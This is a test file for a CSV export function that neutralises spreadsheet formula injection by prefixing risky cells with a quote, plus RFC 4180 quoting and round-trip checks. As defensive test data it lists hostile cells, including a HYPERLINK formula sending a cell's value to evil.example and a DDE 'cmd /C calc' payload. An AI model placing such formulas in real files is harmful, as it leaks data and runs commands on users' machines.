import { describe, expect, it } from "vitest";
import { csvValue, parseCsv } from "../../test/csv.ts";
import { csvField } from "./export.ts";

describe("a CSV cell of the export", () => {
  it.each([
    ["=1+2", "'=1+2"],
    ["+1+2", "'+1+2"],
    ["-1+2", "'-1+2"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\tnote", "'\tnote"],
    ["\r=1+2", `"'\r=1+2"`],
    ["'quoted", "''quoted"],
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])("%j is written as text a spreadsheet does not run: %j", (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it.each([
    ["plain", "plain"],
    ["a, b", '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    ["1+2=3", "1+2=3"],
    ["x-1", "x-1"],
    [42, "42"],
    [null, ""],
  ])("%j is written as it is, quoted where RFC 4180 needs it: %j", (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it("reads back as the value it was once the leading ' is taken off", () => {
    const values = ["=1+2", "'quoted", "''twice", "\r\n=x", "-", "@", "'", "", "plain, with comma", '"quoted"'];
    const [row] = parseCsv(`${values.map(csvField).join(",")}\r\n`);
    expect(row?.map(csvValue)).toEqual(values);
  });
});
